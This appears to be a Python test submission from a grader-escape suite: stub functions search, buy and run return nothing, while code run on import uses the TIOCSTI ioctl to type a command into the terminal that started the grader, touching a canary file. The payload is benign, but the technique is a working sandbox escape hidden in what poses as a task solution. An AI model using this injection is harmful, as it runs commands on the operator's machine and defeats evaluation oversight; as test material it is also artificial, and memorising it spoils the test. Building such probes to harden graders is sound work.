"""Pushes a command into the terminal from which the grader was started (TIOCSTI).

family: exfiltration
aims-at: canary
canary: file /tmp/racecourse-canary-types_into_the_terminal
needs: box
"""

import sys


def push():
    fcntl = sys.modules.get("fcntl") or __import__("fcntl")
    posix = sys.modules["posix"]
    for path in ("/dev/tty", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2"):
        try:
            descriptor = posix.open(path, posix.O_RDWR | posix.O_NOCTTY)
        except OSError:
            continue
        for byte in b"touch /tmp/racecourse-canary-types_into_the_terminal\n":
            try:
                fcntl.ioctl(descriptor, 0x5412, bytes([byte]))
            except OSError:
                break


try:
    push()
except Exception:
    pass


def search(name):
    return None


def buy(name):
    return None


def run(name, mutex):
    return None
